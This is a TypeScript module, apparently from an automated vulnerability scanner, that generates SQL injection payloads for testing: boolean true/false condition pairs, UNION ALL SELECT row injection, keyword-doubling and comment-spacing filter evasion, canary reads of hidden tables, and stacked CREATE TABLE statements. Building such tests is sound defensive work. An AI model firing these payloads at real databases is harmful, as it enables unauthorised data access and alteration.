import { looksLike, takesStructure, takesText } from '../affinity.ts';
import { writesByName } from '../destructive.ts';
import { computed, pair, plainSeed, written } from '../proofs.ts';
import type { Payload, Position, Strategy, Subject } from '../strategy.ts';

/** Where a value stands in a statement: what ends it, and what lets the rest of the statement be. */
interface Context {
  id: string;
  /** Ends the value. */
  end: string;
  /** Takes up what follows, in a condition. */
  rest: string;
  isCore: boolean;
}

const CONTEXTS: readonly Context[] = [
  { id: 'quote', end: "'", rest: " OR 'a'='b", isCore: true },
  { id: 'number', end: '', rest: '', isCore: true },
  { id: 'double-quote', end: '"', rest: ' OR "a"="b', isCore: false },
  { id: 'quote-bracket', end: "')", rest: " OR ('a'='b", isCore: true },
  { id: 'number-bracket', end: ')', rest: ' OR (1=0', isCore: false },
];

const isNumber = (end: string): boolean => end === '' || end === ')';

/**
 * Upper case and `IN` with brackets: neither XPath nor JavaScript nor a filter of LDAP reads it. No comma, which may part
 * values. Numbers that stand in hardly any text: a search for words must not find more by one than by the other.
 */
const TRUE = '4973 IN (4973)';
const FALSE = '4973 IN (6281)';

/** A whole statement already, which its place is there for: what follows it without a quote is no way out of anything. */
const STATEMENT = /^\s*(?:select|with|insert|update|delete|create|pragma|explain)\s/i;
const contextsFor = (seed: string): readonly Context[] =>
  STATEMENT.test(seed) ? CONTEXTS.filter(({ id }) => id !== 'number') : CONTEXTS;

/**
 * A condition that always holds, or a statement cut off before its own, lets what changes one row change them all: where
 * a tool writes, it is tried in a database that was made for the run alone.
 */
function guarded(payload: Payload, subject: Subject): Payload {
  const widens = /-or(?:-|$)|-cut$/.test(payload.id);
  if (!widens || !writesByName(subject)) return payload;
  return {
    ...payload,
    make: (making) => (making.world?.database === undefined ? undefined : payload.make(making)),
  };
}

/** The condition is widened, or narrowed, where the valid value finds nothing, or something. */
function conditions(seed: string): Payload[] {
  const pairs = contextsFor(seed).flatMap(({ id, end, rest, isCore }) => {
    const closed = rest.replace(' OR', ' AND').replace('b', 'a').replace('1=0', '1=1');
    return [
      pair(`${id}-or`, isCore, `${seed}${end} OR ${FALSE}${rest}`, `${seed}${end} OR ${TRUE}${rest}`),
      pair(`${id}-and`, isCore, `${seed}${end} AND ${TRUE}${closed}`, `${seed}${end} AND ${FALSE}${closed}`),
      pair(`${id}-or-cut`, false, `${seed}${end} OR ${FALSE}-- `, `${seed}${end} OR ${TRUE}-- `),
      pair(`${id}-and-cut`, false, `${seed}${end} AND ${TRUE}-- `, `${seed}${end} AND ${FALSE}-- `),
      pair(
        `${id}-no-spaces`,
        false,
        `${seed}${end}/**/AND/**/${TRUE.replaceAll(' ', '/**/')}${closed.replaceAll(' ', '/**/')}`,
        `${seed}${end}/**/AND/**/${FALSE.replaceAll(' ', '/**/')}${closed.replaceAll(' ', '/**/')}`,
      ),
    ];
  });
  return [
    ...pairs,
    pair('like-and', true, `${seed}%' AND ${TRUE} AND '%'='`, `${seed}%' AND ${FALSE} AND '%'='`),
    pair('like-or', false, `${seed}%' OR ${FALSE} OR '%'='a`, `${seed}%' OR ${TRUE} OR '%'='a`),
    pair(
      'order',
      true,
      `(CASE WHEN ${TRUE} THEN ${seed} END) ASC`,
      `(CASE WHEN ${TRUE} THEN ${seed} END) DESC`,
    ),
    pair(
      'joined',
      false,
      `${seed.slice(0, 1)}'||'${seed.slice(1)}`,
      `${seed.slice(0, 1)}'||'zq'||'${seed.slice(1)}`,
    ),
  ];
}

const MOST_COLUMNS = 10;
const MOST_CORE_COLUMNS = 5;

/** Words and blanks written so that what takes them out, or looks for them, does not see them. */
const SPELLINGS: readonly { id: string; spell(statement: string): string; isFor(end: string): boolean }[] = [
  { id: 'plain', spell: (statement) => `${statement}-- `, isFor: () => true },
  {
    id: 'doubled',
    spell: (statement) =>
      `${statement.replaceAll('UNION', 'UNunionION').replaceAll('SELECT', 'SELselectECT')}/*`,
    isFor: (end) => !end.includes(')'),
  },
  {
    id: 'no-spaces',
    spell: (statement) => `${statement.replaceAll(' ', '/**/')}/*`,
    isFor: (end) => !end.includes(')'),
  },
  {
    id: 'mixed-case',
    spell: (statement) =>
      `${statement.replaceAll('UNION', 'uNiOn').replaceAll('SELECT', 'sElEcT').replaceAll(' ', '\n')}--\n`,
    isFor: (end) => end === "'" || end === '',
  },
];

/** Rows of our own beside those asked for: a product nobody has written. */
function unions(): Payload[] {
  // What is before it finds nothing, so that ours is the first row.
  return Array.from({ length: MOST_COLUMNS }, (_, at) => at + 1).flatMap((columns) =>
    SPELLINGS.flatMap(({ id: spelling, spell, isFor }) =>
      CONTEXTS.filter(({ end }) => isFor(end)).map(({ id, end, isCore }) =>
        computed(
          `union-${id}-${columns}${spelling === 'plain' ? '' : `-${spelling}`}`,
          isCore && spelling === 'plain' && columns <= MOST_CORE_COLUMNS,
          ({ one, other }) => {
            const values = Array<string>(columns).fill(`${one}*${other}`).join(',');
            return { text: (isNumber(end) ? '-7' : 'zq') + end + spell(` UNION ALL SELECT ${values}`) };
          },
        ),
      ),
    ),
  );
}

/** What nobody offers, where we know what it is called. */
function canaries(): Payload[] {
  return Array.from({ length: 6 }, (_, at) => at + 1).flatMap((columns) =>
    CONTEXTS.slice(0, 2).map(({ id, end }) =>
      written(`hidden-${id}-${columns}`, false, ({ world }) => {
        const hidden = world?.database?.hidden;
        if (hidden === undefined) return undefined;
        const values = Array<string>(columns).fill(hidden.column).join(',');
        return {
          text: `${isNumber(end) ? '-7' : 'zq'}${end} UNION ALL SELECT ${values} FROM ${hidden.table}-- `,
          expects: [{ kind: 'canary' }],
        };
      }),
    ),
  );
}

/** A statement of our own behind it, which makes a table that bears the token. */
function stacked(seed: string): Payload[] {
  return contextsFor(seed).map(({ id, end, isCore }) =>
    written(`stacked-${id}`, isCore, ({ world, token }) => {
      if (world?.database === undefined) return undefined;
      const named = `t_${token}`;
      return {
        text: `${seed}${end}; CREATE TABLE ${named}(a);-- `,
        expects: [{ kind: 'fixture', named }],
      };
    }),
  );
}

function likely(position: Position, subject: Parameters<Strategy['fits']>[0]): number {
  // A place for whole statements is another strategy's.
  if (looksLike(position, 'sql') >= 0.5) return 0.2;
  const isOfDatabase = looksLike({ ...position, words: 'x', at: '/x', description: '' }, 'sql', subject);
  const own = Math.max(
    ...(['query', 'id', 'user'] as const).map((kind) => looksLike(position, kind, subject)),
  );
  return Math.min(1, Math.max(own, own * 0.5 + isOfDatabase * 0.5));
}

export const sqlInjection: Strategy = {
  meta: {
    id: 'sql-injection',
    title: 'SQL injection',
    about:
      'Ends the value and goes on with the statement: conditions that hold or do not, rows of our own, a second statement.',
    cwe: 'CWE-89',
    optIn: false,
    severity: 'high',
    finding: 'A value becomes part of an SQL statement',
    fix: 'Give values to the database beside the statement, as parameters. Choose names of tables and columns from a list of your own.',
  },
  of: 'value',
  fits(subject, position) {
    if (position === undefined || subject.kind === 'protocol') return 0;
    if (!takesText(position) && takesStructure(position) && position.types.length > 0) return 0;
    return likely(position, subject);
  },
  payloads(subject, position) {
    if (position === undefined) return [];
    const seed = plainSeed(position);
    const asked = conditions(seed).map((payload) => guarded(payload, subject));
    return [...asked, ...unions(), ...stacked(seed), ...canaries()];
  },
};
